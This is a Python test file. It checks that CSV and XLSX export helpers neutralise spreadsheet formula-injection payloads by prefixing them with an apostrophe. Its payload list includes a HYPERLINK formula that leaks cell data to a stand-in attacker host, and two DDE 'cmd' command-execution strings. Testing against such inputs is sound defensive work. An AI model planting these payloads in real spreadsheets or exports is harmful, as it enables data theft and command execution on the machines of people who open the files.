"""Formula payloads come out neutralised in CSV and XLSX downloads.

Files are read back with the standard ``csv`` module and openpyxl (what a
spreadsheet would see), and each cell is compared with the value written:
a payload must come back as itself behind a leading apostrophe, anything
else exactly as it was.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pandas as pd
import pytest

from core.csv_safety import safe_csv
from core.xlsx_safety import safe_xlsx, sheet_name

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Verify your account")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
PLAIN = ["Peshawar", "شکایت درج نہیں ہوئی", "a - b", "first line\rsecond line", "#N/A", ""]


def register() -> pd.DataFrame:
    n = len(PAYLOADS) + len(PLAIN)
    return pd.DataFrame(
        {
            "inquiry_id": [f"INQ-{i:04d}" for i in range(n)],
            "summary": PAYLOADS + PLAIN,
            "district": list(reversed(PAYLOADS + PLAIN)),
            "=header": range(n),
            "received_at": [datetime(2026, 3, 1, 4, 30, tzinfo=UTC)] * n,
        }
    )


def expected(value: str) -> str:
    """How a text cell must come back: payloads behind an apostrophe."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def test_csv_cells_are_neutralised_and_rows_stay_whole() -> None:
    frame = register()
    text = safe_csv(frame).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert len(rows) == len(frame) + 1  # a bare CR never splits a row
    assert rows[0] == ["inquiry_id", "summary", "district", "'=header", "received_at"]
    for row, (_, original) in zip(rows[1:], frame.iterrows(), strict=True):
        assert row[1] == expected(original["summary"])
        assert row[2] == expected(original["district"])
        assert row[3] == str(original["=header"])


def test_xlsx_cells_are_text_never_formulas() -> None:
    frame = register()
    book = openpyxl.load_workbook(io.BytesIO(safe_xlsx({"Overdue items": frame})))
    sheet = book["Overdue items"]
    rows = list(sheet.iter_rows())
    assert len(rows) == len(frame) + 1
    assert [c.value for c in rows[0]][3] == "'=header"
    for cells in rows:
        for cell in cells:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    for cells, (_, original) in zip(rows[1:], frame.iterrows(), strict=True):
        for cell, column in ((cells[1], "summary"), (cells[2], "district")):
            want = expected(original[column])
            # XML keeps a CR as a line break: compare with CRs read as LFs.
            assert (cell.value or "") == want.replace("\r", "\n"), (cell.coordinate, want)
        assert cells[3].value == original["=header"] and cells[3].data_type == "n"
        # Shown in Pakistan time, as on the pages (UTC+5).
        assert cells[4].value == datetime(2026, 3, 1, 9, 30)


def test_the_error_looking_text_stays_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(safe_xlsx(pd.DataFrame({"a": ["#N/A", "#REF!"]}))))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [("#N/A", "s"), ("#REF!", "s")]


def test_control_characters_do_not_break_the_workbook() -> None:
    data = safe_xlsx(pd.DataFrame({"a": ["bell\x07 and nul\x00 inside"]}))
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.active["A2"].value == "bell and nul inside"


@pytest.mark.parametrize(
    ("name", "safe"),
    [("Overdue: items/2026", "Overdue  items 2026"), ("", "Sheet"), ("x" * 40, "x" * 31)],
)
def test_sheet_names_excel_accepts(name: str, safe: str) -> None:
    assert sheet_name(name) == safe


def test_several_sheets_with_clashing_names() -> None:
    frame = pd.DataFrame({"a": [1]})
    book = openpyxl.load_workbook(io.BytesIO(safe_xlsx({"Items": frame, "items": frame})))
    assert book.sheetnames == ["Items", "items 2"]
